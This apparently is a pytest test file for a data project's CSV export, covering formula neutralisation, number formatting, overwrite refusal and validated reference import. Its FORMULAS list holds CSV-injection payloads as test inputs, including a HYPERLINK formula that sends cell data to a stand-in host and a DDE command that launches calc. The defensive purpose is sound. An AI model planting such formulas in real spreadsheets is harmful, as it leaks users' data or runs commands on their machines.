"""Exports are safe to open: one CSV writer, formula text made inert, numbers kept, nothing overwritten unasked."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from indicators.load.dataset import DataValidationError, load_dataset
from indicators.load.reference import REFERENCE_FILES, import_reference
from indicators.outputs import export
from indicators.outputs.export import ExportError, csv_bytes, csv_text, export_tables, spreadsheet_safe, zip_bytes
from indicators.outputs.output import OutputError, write_output
from indicators.schemas import SCHEMAS
from tests.support import run_cli

ROOT = Path(__file__).parents[1]

#: Text that a spreadsheet runs as a formula (or that moves one into a cell), as the issue lists it.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


def read_csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- the writer -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_gets_a_leading_quote(text: str) -> None:
    written = cells(csv_text(pd.DataFrame({"note": [text]})))
    assert written == [["note"], ["'" + text]]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_headers_get_a_leading_quote(text: str) -> None:
    assert cells(csv_text(pd.DataFrame({text: [1]})))[0] == ["'" + text]


def test_numbers_stay_numbers_negative_ones_included() -> None:
    frame = pd.DataFrame(
        {
            "value": [-3.5, 15000000.0, 0.5, None],
            "count": pd.array([1, None, -2, 3], dtype="Int64"),
            "as_text": ["-3", "+1.5e3", "12", "-"],
            "mixed": [-7, 2.0, "-x", None],
        }
    )
    assert cells(csv_text(frame)) == [
        ["value", "count", "as_text", "mixed"],
        ["-3.5", "1", "-3", "-7"],
        ["15000000", "", "+1.5e3", "2"],
        ["0.5", "-2", "12", "'-x"],
        ["", "3", "'-", ""],
    ]


def test_whole_numbers_are_written_without_a_decimal_point() -> None:
    text = csv_bytes(load_dataset().observations, bom=False).decode("utf-8")
    assert "KAZ,population,2002,15000000,lt,,15000000," in text
    assert "15000000.0" not in text
    assert "24400000000," in text
    assert ",0.5,approx," in text  # a fraction stays as it is


def test_line_breaks_inside_cells_are_always_quoted() -> None:
    frame = pd.DataFrame({"a": ["\rstarts with CR", "mid\rline", "two\nlines", 'say "hi"'], "b": [1, 2, 3, 4]})
    raw = csv_text(frame)
    assert '"\'\rstarts with CR"' in raw  # neutralised and quoted
    assert '"mid\rline"' in raw
    assert '"two\nlines"' in raw
    assert '"say ""hi"""' in raw
    assert cells(raw) == [["a", "b"], ["'\rstarts with CR", "1"], ["mid\rline", "2"], ["two\nlines", "3"], ['say "hi"', "4"]]


def test_bom_only_where_asked() -> None:
    frame = pd.DataFrame({"a": [1]})
    assert csv_bytes(frame).startswith(b"\xef\xbb\xbfa\n")
    assert csv_bytes(frame, bom=False) == b"a\n1\n"


def test_spreadsheet_safe_leaves_ordinary_text_alone() -> None:
    for text in ("Kazakhstan", "§1-2 Kazakhstan", "about 66,000", "", "'=already quoted"):
        assert spreadsheet_safe(text) == text


def test_the_zip_holds_the_writers_csv_and_the_descriptor() -> None:
    ds = load_dataset()
    with zipfile.ZipFile(io.BytesIO(zip_bytes(ds, "readme"))) as zf:
        for file in SCHEMAS:
            assert zf.read(file) == csv_bytes(ds.table(file), bom=False)
        assert zf.read("datapackage.json") == (ROOT / "data" / "datapackage.json").read_bytes()


# --- a data folder holding formula text: exported safely, and the export validates again ---------------------------


@pytest.fixture
def formula_folder(data_copy: Path, edit_cell: Any) -> Path:
    """The shipped package with formula text in notes and a note that holds a carriage return (still valid)."""
    for row, text in enumerate(FORMULAS[:5], start=2):
        edit_cell("observations.csv", row, "note", text)
    rows = read_csv_rows(data_copy / "borders.csv")
    rows[1][rows[0].index("note")] = "\rstarts with a carriage return"
    with (data_copy / "borders.csv").open("w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)  # quoted, so the CR stays in its cell
    load_dataset(data_copy)  # valid as it stands
    return data_copy


def test_export_neutralises_formulas_and_validates_again(formula_folder: Path, tmp_path: Path) -> None:
    out = tmp_path / "export"
    done = run_cli("export", "--out", str(out), "--data-dir", str(formula_folder))
    assert done.returncode == 0, done.stderr
    rows = read_csv_rows(out / "observations.csv")
    notes = [r[rows[0].index("note")] for r in rows[1:6]]
    assert notes == ["'" + text for text in FORMULAS[:5]]
    borders = read_csv_rows(out / "borders.csv")
    assert len(borders) == 6  # the carriage return did not split a row
    assert borders[1][borders[0].index("note")] == "'\rstarts with a carriage return"
    exported = load_dataset(out)  # the export is a valid data package
    shipped = load_dataset(formula_folder)
    for file in SCHEMAS:
        assert exported.table(file).shape == shipped.table(file).shape
    pd.testing.assert_frame_equal(exported.reference, shipped.reference)


def test_export_of_the_shipped_package_validates_and_equals_it(tmp_path: Path) -> None:
    written = export_tables(load_dataset(), tmp_path / "out")
    assert sorted(p.name for p in written) == sorted([*SCHEMAS, "datapackage.json"])
    again = load_dataset(tmp_path / "out")
    for file in SCHEMAS:
        pd.testing.assert_frame_equal(again.table(file), load_dataset().table(file))


# --- export never overwrites unasked ---------------------------------------------------------------------------------


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def test_export_refuses_the_data_folder_itself(data_copy: Path) -> None:
    before = snapshot(data_copy)
    done = run_cli("export", "--out", str(data_copy), "--data-dir", str(data_copy), "--force")
    assert done.returncode == 1
    assert "is the data folder the tables are read from" in done.stderr
    assert "Traceback" not in done.stderr
    assert snapshot(data_copy) == before


def test_export_refuses_a_folder_inside_the_data_folder(data_copy: Path) -> None:
    done = run_cli("export", "--out", str(data_copy / "sub"), "--data-dir", str(data_copy))
    assert done.returncode == 1
    assert not (data_copy / "sub").exists()


def test_export_refuses_to_overwrite_without_force(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "observations.csv").write_text("mine\n", encoding="utf-8")
    done = run_cli("export", "--out", str(out))
    assert done.returncode == 1
    assert f"ERROR: {out} already holds observations.csv: nothing was written (use --force to replace them)" in done.stderr
    assert snapshot(out) == {"observations.csv": b"mine\n"}  # nothing else written either
    done = run_cli("export", "--out", str(out), "--force")
    assert done.returncode == 0, done.stderr
    assert len(load_dataset(out).observations) == 16


def test_export_api_raises_export_error(data_copy: Path) -> None:
    with pytest.raises(ExportError, match="is the data folder"):
        export_tables(load_dataset(data_copy), data_copy)


def test_write_output_leaves_the_old_file_when_replacing_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "table.csv"
    path.write_bytes(b"old\n")

    def fail(src: Any, dst: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("indicators.outputs.output.os.replace", fail)
    with pytest.raises(OSError, match="No space"):
        write_output(path, b"new\n", force=True)
    assert path.read_bytes() == b"old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["table.csv"]  # no temporary file left


def test_write_output_refuses_a_link_and_leaves_its_target(tmp_path: Path) -> None:
    target = tmp_path / "elsewhere.csv"
    target.write_bytes(b"keep\n")
    link = tmp_path / "table.csv"
    link.symlink_to(target)
    with pytest.raises(OutputError, match="symbolic link"):
        write_output(link, b"new\n", force=True)
    assert target.read_bytes() == b"keep\n"
    assert link.is_symlink()


# --- import-reference: validated, atomic -------------------------------------------------------------------------------


def upstream_from(reference: pd.DataFrame, folder: Path) -> Path:
    """The upstream extracts that build ``reference`` (the inverse of indicators.load.reference's mapping)."""
    folder.mkdir()
    for file, mapping in REFERENCE_FILES.items():
        parts = []
        for upstream, (ours, _) in mapping.items():
            rows = reference[reference["indicator_id"] == ours]
            parts.append(
                pd.DataFrame(
                    {
                        "iso3": rows["country_code"],
                        "indicator": upstream,
                        "year": rows["year"],
                        "value": rows["value"],
                        "unit": rows["unit"],
                        "source_id": rows["source_id"],
                    }
                )
            )
        pd.concat(parts).to_csv(folder / file, index=False)
    return folder


def test_import_reference_rebuilds_the_shipped_file(data_copy: Path, tmp_path: Path) -> None:
    upstream = upstream_from(load_dataset().reference, tmp_path / "upstream")
    (data_copy / "reference.csv").write_text("broken\n", encoding="utf-8")
    done = run_cli("import-reference", str(upstream), "--data-dir", str(data_copy))
    assert done.returncode == 0, done.stderr
    assert (data_copy / "reference.csv").read_bytes() == (ROOT / "data" / "reference.csv").read_bytes()
    assert sorted(p.name for p in data_copy.iterdir() if p.name.startswith(".")) == []  # no temporary file left


def test_import_reference_rebuilds_the_release_history(data_copy: Path, tmp_path: Path) -> None:
    upstream = upstream_from(load_dataset().reference, tmp_path / "upstream")
    shared = ROOT.parent / "shared" / "reference" / "wb_vintages.csv"
    if not shared.is_file():
        pytest.skip("the shared reference extracts are not beside the repository")
    shutil.copyfile(shared, upstream / "wb_vintages.csv")
    (data_copy / "vintages.csv").write_text("broken\n", encoding="utf-8")
    done = run_cli("import-reference", str(upstream), "--data-dir", str(data_copy))
    assert done.returncode == 0, done.stderr
    assert (data_copy / "vintages.csv").read_bytes() == (ROOT / "data" / "vintages.csv").read_bytes()


def test_import_reference_refuses_an_invalid_table_and_keeps_the_old_file(data_copy: Path, tmp_path: Path) -> None:
    reference = load_dataset().reference.copy()
    reference.loc[5, "country_code"] = "XXX"  # not defined in countries.csv
    upstream = upstream_from(reference, tmp_path / "upstream")
    before = (data_copy / "reference.csv").read_bytes()
    done = run_cli("import-reference", str(upstream), "--data-dir", str(data_copy))
    assert done.returncode == 1
    assert f"ERROR: the new reference.csv does not validate; {data_copy / 'reference.csv'} was not changed." in done.stderr
    assert "reference.csv, row" in done.stderr
    assert "column country_code" in done.stderr
    assert "Traceback" not in done.stderr
    assert (data_copy / "reference.csv").read_bytes() == before


def test_import_reference_api_raises_with_the_problems(data_copy: Path, tmp_path: Path) -> None:
    reference = load_dataset().reference.copy()
    reference.loc[0, "unit"] = ""
    upstream = upstream_from(reference, tmp_path / "upstream")
    with pytest.raises(DataValidationError) as info:
        import_reference(upstream, data_copy)
    assert {p.file for p in info.value.problems} == {"reference.csv"}


def test_import_reference_reports_a_missing_extract(data_copy: Path, tmp_path: Path) -> None:
    upstream = upstream_from(load_dataset().reference, tmp_path / "upstream")
    (upstream / "eia_crude_oil_trade.csv").unlink()
    done = run_cli("import-reference", str(upstream), "--data-dir", str(data_copy))
    assert done.returncode == 1
    assert "eia_crude_oil_trade.csv" in done.stderr
    assert "file is missing" in done.stderr
    assert "Traceback" not in done.stderr


# --- the ZIP button says why it cannot be made ------------------------------------------------------------------------


def test_zip_button_shows_an_error_when_the_descriptor_is_invalid(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    data = tmp_path / "data"
    shutil.copytree(ROOT / "data", data)
    monkeypatch.setenv("SCO_DATA_DIR", str(data))

    def broken(ds: Any) -> dict[str, Any]:
        raise ExportError("datapackage.json is not valid JSON: Expecting value (line 1, column 1)")

    # The data page imports export.datapackage when it runs: the descriptor turns bad after the data was loaded.
    monkeypatch.setattr(export, "datapackage", broken)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.switch_page("indicators/pages/data.py")
    at.run()
    assert not at.exception
    assert any("The ZIP cannot be made: datapackage.json is not valid JSON" in e.value for e in at.error)
    assert not [b for b in at.get("download_button") if "ZIP" in b.proto.label]
